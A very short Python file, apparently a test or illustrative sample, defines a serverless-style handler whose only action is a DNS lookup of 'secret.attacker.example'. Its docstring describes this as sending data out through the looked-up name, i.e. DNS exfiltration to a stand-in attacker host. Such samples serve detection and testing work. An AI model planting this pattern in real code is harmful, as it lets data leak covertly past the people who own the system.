"""Sends data out in the name it looks up."""

import socket


def handler(event, context):
    socket.gethostbyname("secret.attacker.example")
